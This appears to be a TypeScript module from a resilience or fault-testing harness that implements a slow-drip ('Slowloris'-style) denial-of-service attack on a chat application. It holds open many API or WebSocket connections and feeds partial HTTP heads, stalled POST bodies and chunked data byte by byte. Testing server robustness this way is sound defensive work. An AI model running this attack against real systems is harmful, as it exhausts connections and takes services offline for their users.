import type { Random } from '../../faults/random.ts'
import type { Attack } from '../attack.ts'
import {
  eventFrame,
  fileStart,
  head,
  JSON_TYPE,
  MULTIPART_TYPE,
  OPEN_ROUTES,
  upgrade,
} from '../request.ts'
import type { Target } from '../target.ts'

const CONNECTIONS_MAX = 32
const MILLISECONDS_MAX = 12_000
const STEP_MS = 200
const LENGTH = { 'Content-Length': '100000' }

/** Some dozen connections on which a byte comes now and then. */
export const attack: Attack = {
  name: 'dripping',
  async run(target, random) {
    const isSocket = random.next() < 0.3
    const open = () => (isSocket ? target.openDaemon() : target.openApi())
    const wires = await target.openMany(random.integer(4, CONNECTIONS_MAX), open)
    const drips = wires.map(() => composeDrip(isSocket, target, random))
    for (const [index, { atOnce }] of drips.entries()) wires[index]?.write(atOnce)
    const steps = random.integer(1, MILLISECONDS_MAX / STEP_MS)
    for (let step = 0; step < steps && wires.some(({ isOpen }) => isOpen); step += 1) {
      for (const [index, { bytes }] of drips.entries()) {
        wires[index]?.write(bytes.subarray(step % bytes.length, (step % bytes.length) + 1))
      }
      await target.pause(STEP_MS)
    }
  },
}

interface Drip {
  atOnce: string
  /** Comes byte by byte. */
  bytes: Buffer
}

function composeDrip(isSocket: boolean, target: Target, random: Random): Drip {
  const { userId, headers } = target
  if (isSocket) {
    const asked = upgrade(`user_id=${userId}`, headers)
    const typing = eventFrame('chat:typing', { receiver_id: target.scene.victimId, is_typing: 1 })
    return random.pick([
      { atOnce: asked.slice(0, -20), bytes: Buffer.from('x'.repeat(100)) },
      { atOnce: asked, bytes: typing },
    ])
  }
  const path = random.pick(['/send_chat_message.php', ...OPEN_ROUTES])
  return random.pick([
    { atOnce: '', bytes: Buffer.from(head('GET', path, headers)) },
    { atOnce: head('GET', path, headers).slice(0, -2), bytes: Buffer.from('X-Slow: 1\r\n') },
    {
      atOnce: head('POST', path, { ...headers, ...JSON_TYPE, ...LENGTH }),
      bytes: Buffer.from('['),
    },
    {
      atOnce: head('POST', path, { ...headers, ...MULTIPART_TYPE, ...LENGTH }),
      bytes: Buffer.from(fileStart('image', { sender_id: userId, receiver_id: 2 })),
    },
    {
      atOnce: head('POST', path, { ...headers, ...JSON_TYPE, 'Transfer-Encoding': 'chunked' }),
      bytes: Buffer.from('1\r\n[\r\n'),
    },
  ])
}
